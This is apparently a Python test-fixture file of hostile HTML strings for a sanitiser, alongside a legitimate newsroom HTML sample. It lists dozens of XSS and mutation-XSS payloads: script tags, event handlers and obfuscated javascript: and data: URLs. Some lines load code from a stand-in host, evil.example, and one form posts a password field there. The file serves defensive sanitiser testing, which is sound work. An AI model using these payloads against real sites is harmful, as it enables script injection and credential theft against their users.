"""Hostile HTML for the sanitiser tests: each string tries to run script or load something.

Written for this project after the families of vectors in the OWASP XSS Filter Evasion
Cheat Sheet (script and event-handler tags, URL scheme obfuscation, encodings, broken
markup) and the published mutation-XSS classics (``<noscript>`` and ``<style>`` parsed
differently in HTML and in SVG/MathML, comments and CDATA inside foreign content). Every
payload, if it ran, would call ``hit()``: the browser test defines ``hit`` to record it.
"""

from __future__ import annotations

VECTORS: tuple[str, ...] = (
    # script, plain and disguised
    "<script>hit()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/src=data:,hit()></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit();//<</script>",
    "<script>/*</script><script>hit()</script>",
    '<p><script type="module">hit()</script></p>',
    # event handlers
    "<img src=x onerror=hit()>",
    '<img src="x" onerror="hit()">',
    "<IMG SRC=x oNeRrOr=hit()>",
    "<img src=x onerror=&#104;&#105;&#116;&#40;&#41;>",
    '<img """><script>hit()</script>">',
    "<body onload=hit()>",
    '<div onmouseover="hit()">hover</div>',
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    '<input autofocus onfocus="hit()">',
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    '<audio src=x onerror="hit()"></audio>',
    "<marquee onstart=hit()>x</marquee>",
    '<a href="https://ok.example/" onclick="hit()">click</a>',
    "<p style=\"background:url('javascript:hit()')\">styled</p>",
    '<div style="width: expression(hit())">ie</div>',
    # URLs with active schemes, obfuscated
    '<a href="javascript:hit()">js</a>',
    '<a href="JaVaScRiPt:hit()">js</a>',
    '<a href=" javascript:hit()">js</a>',
    '<a href="jav&#x09;ascript:hit()">js</a>',
    '<a href="jav&#x0A;ascript:hit()">js</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hit()">js</a>',
    '<a href="&#x6A;avascript&#x3A;hit()">js</a>',
    '<a href="java&#0;script:hit()">js</a>',
    '<a href="vbscript:hit()">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">data</a>',
    '<img src="javascript:hit()">',
    '<img src="data:image/svg+xml,<svg onload=hit()>">',
    '<a href="livescript:hit()">ls</a>',
    '<blockquote cite="javascript:hit()">q</blockquote>',
    '<q cite="data:text/html,hit()">q</q>',
    # elements that load or change things
    '<iframe src="javascript:hit()"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    '<iframe src="http://www.youtube-nocookie.com/embed/insecure"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>',
    '<iframe src="https://evil.example/#https://www.youtube-nocookie.com/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body{background:red}</style>",
    "<style>*{x:expression(hit())}</style>",
    "<template><script>hit()</script></template>",
    '<applet code="Evil.class"></applet>',
    '<frameset><frame src="javascript:hit()"></frameset>',
    '<isindex action="javascript:hit()" type=image>',
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
    '<svg><a xlink:href="javascript:hit()"><text x="20" y="20">x</text></a></svg>',
    "<svg><script>hit()</script></svg>",
    # broken markup, comments, CDATA
    "<!--<img src=x onerror=hit()>-->",
    "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    '<img src="x` `<script>hit()</script>"` `>',
    "<img src=`x`onerror=hit()>",
    "<a href='x' title='\"><img src=x onerror=hit()>'>t</a>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    # mutation XSS: parsers disagreeing about where raw text ends
    '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
    '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=hit() src=x>">',
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<svg><p><style><img src=x onerror=hit()></style></p></svg>",
    '<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>',
    '<noembed><p title="</noembed><img src=x onerror=hit()>"></noembed>',
    '<iframe><p title="</iframe><img src=x onerror=hit()>"></iframe>',
    "<textarea><img src=x onerror=hit()></textarea>",
    "<select><template><img src=x onerror=hit()></template></select>",
    "<table><td><svg><foreignObject><img src=x onerror=hit()></foreignObject></svg></td></table>",
)

# What the newsroom writes and must see on its page and in its feeds, embeds included.
LEGITIMATE = (
    "<h2>What changed</h2>"
    '<p>Fares rise <em>today</em>, see <a href="https://news.example/en/fares">the table</a>'
    ' and <abbr title="Yerevan Metro">YM</abbr> at <time datetime="2026-11-14T06:00:00Z">'
    "06:00</time>.</p>"
    '<figure><img src="https://news.example/static/images/metro.jpg" alt="A platform" '
    'width="800" height="450"><figcaption>The new platform.</figcaption></figure>'
    "<blockquote><p>We had no choice.</p></blockquote>"
    "<table><caption>Fares</caption><thead><tr><th>Before</th><th>After</th></tr></thead>"
    "<tbody><tr><td>100</td><td>200</td></tr></tbody></table>"
    "<ul><li>one</li><li>two</li></ul><pre><code>fare = 200</code></pre>"
    '<iframe src="https://www.youtube-nocookie.com/embed/abc123" width="560" height="315" '
    'title="Interview" allowfullscreen></iframe>'
)
EMBED_HOST = "www.youtube-nocookie.com"
